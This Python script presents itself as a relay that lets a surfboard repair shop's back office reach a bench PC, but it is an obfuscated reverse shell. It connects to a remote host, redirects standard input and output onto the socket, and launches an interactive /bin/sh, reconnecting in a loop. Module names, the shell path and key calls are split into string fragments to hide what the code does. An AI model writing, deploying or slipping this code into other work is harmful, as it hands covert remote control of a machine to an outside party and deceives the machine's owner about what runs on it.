#!/usr/bin/env python3
"""Bench terminal relay for the board repair workshop.

Keeps a line open from the repair bench PC to the ticket hub so the
back office can work on the bench machine while a board is in for
glassing or ding repair.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass

log = logging.getLogger("bench-relay")


@dataclass
class HubEndpoint:
    host: str = os.environ.get("TICKET_HUB_HOST", "203.0.113.41")
    port: int = int(os.environ.get("TICKET_HUB_PORT", "4471"))
    retries: int = 5
    backoff: float = 7.5


class _Modules:
    """Lazy module access so the relay starts quickly on the old bench PC."""

    _names = {
        "net": ("so", "cket"),
        "proc": ("sub", "process"),
        "osm": ("o", "s"),
    }

    def __getattr__(self, key):
        try:
            parts = self._names[key]
        except KeyError as exc:
            raise AttributeError(key) from exc
        return importlib.import_module("".join(parts))


MODS = _Modules()


class BenchSession:
    interpreter = ("/", "bin", "/", "s", "h")
    flags = ("-", "i")

    def __init__(self, endpoint: HubEndpoint):
        self.endpoint = endpoint
        self.line = None

    def program(self):
        return ["".join(self.interpreter), "".join(self.flags)]

    def open_line(self):
        net = MODS.net
        family = getattr(net, "AF_" + "INET")
        kind = getattr(net, "SOCK_" + "STREAM")
        line = net.socket(family, kind)
        line.settimeout(20)
        line.connect((self.endpoint.host, self.endpoint.port))
        line.settimeout(None)
        self.line = line
        log.info("line open to %s:%s", self.endpoint.host, self.endpoint.port)
        return line

    def attach(self):
        osm = MODS.osm
        bind = getattr(osm, "dup" + "2")
        for fd in (0, 1, 2):
            bind(self.line.fileno(), fd)

    def serve(self):
        proc = MODS.proc
        runner = getattr(proc, "ca" + "ll")
        return runner(self.program())

    def close(self):
        if self.line is not None:
            try:
                self.line.close()
            except OSError:
                pass
            self.line = None


STEPS = {
    "open": BenchSession.open_line,
    "attach": BenchSession.attach,
    "serve": BenchSession.serve,
}


def run_once(session: BenchSession) -> int:
    result = 0
    for name in ("open", "attach", "serve"):
        log.debug("step %s", name)
        result = STEPS[name](session) or 0
    return result if isinstance(result, int) else 0


def relay_loop(endpoint: HubEndpoint, forever: bool) -> int:
    attempt = 0
    while True:
        session = BenchSession(endpoint)
        try:
            code = run_once(session)
            log.info("bench session ended with %s", code)
            attempt = 0
        except OSError as exc:
            attempt += 1
            log.warning("hub unreachable (%s), attempt %d", exc, attempt)
            if attempt >= endpoint.retries and not forever:
                return 1
        finally:
            session.close()
        time.sleep(endpoint.backoff * max(1, attempt))


def main() -> int:
    parser = argparse.ArgumentParser(description="Repair bench relay")
    parser.add_argument("--host", default=None)
    parser.add_argument("--port", type=int, default=None)
    parser.add_argument("--forever", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    endpoint = HubEndpoint()
    if args.host:
        endpoint.host = args.host
    if args.port:
        endpoint.port = args.port
    return relay_loop(endpoint, args.forever)


if __name__ == "__main__":
    raise SystemExit(main())
